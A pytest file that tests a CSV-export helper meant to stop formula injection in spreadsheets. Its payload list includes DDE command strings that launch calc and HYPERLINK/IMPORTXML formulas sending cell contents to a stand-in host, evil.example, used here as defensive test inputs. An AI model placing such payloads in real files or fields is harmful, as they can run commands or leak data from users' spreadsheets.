"""Whatever somebody writes, a spreadsheet shows it and runs nothing."""

import csv
import io
from datetime import UTC, date, datetime

import pytest

from village.foundation.safe_cells import BOM, csv_of, safe_cell

PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\u22121+1",
    "'=1+1",
    '"=1+1',
    "\x00=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")",
    "%0A-3+3+cmd|' /C calc'!D2",
]  # fmt: skip
RUNS = set("=+-@\uff1d\uff0b\uff0d\uff20\u2212")
ACTS = "=+-@\uff1d\uff0b\uff0d\uff20\u2212\t\r\n"


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_cell_begins_with_something_a_spreadsheet_runs(payload):
    assert safe_cell(payload).lstrip(" \u200b\ufeff\"")[:1] not in ACTS


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("language", ["en", "nl"])
def test_no_piece_of_a_row_begins_with_it_either_wherever_it_is_split(payload, separator, language):
    made = csv_of(["a", "b"], [[f"x{separator}{payload}", payload]], language).decode()
    for cut in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(made.removeprefix(BOM), newline=""), delimiter=cut):
            assert [piece for piece in row if piece.strip(" \u200b\ufeff\"")[:1] in RUNS] == []


def test_what_we_counted_ourselves_stays_a_number_and_a_date_a_date():
    assert safe_cell(-5) == "-5" and safe_cell(2.5) == "2.5" and safe_cell(None) == ""
    assert safe_cell(date(2026, 11, 22)) == "2026-11-22"
    assert safe_cell(datetime(2026, 11, 22, 8, 0, tzinfo=UTC)) == "2026-11-22 09:00"


def test_plain_words_stay_as_they_were_written():
    for words in ("Hij slaapt niet.", "a - b = c", "أهلا", "naïve; of niet", "a@b.example"):
        assert safe_cell(words) == words


def test_a_table_comes_back_as_it_went_in():
    rows = [["Leïla \"L\"", "two\nlines"], ["a;b", "c,d"]]
    for language, separator in (("nl", ";"), ("fr", ";"), ("en", ","), ("ar", ",")):
        made = csv_of(["one", "two"], rows, language).decode()
        assert made.startswith(BOM)
        assert list(csv.reader(io.StringIO(made[1:], newline=""), delimiter=separator)) == [["one", "two"], *rows]
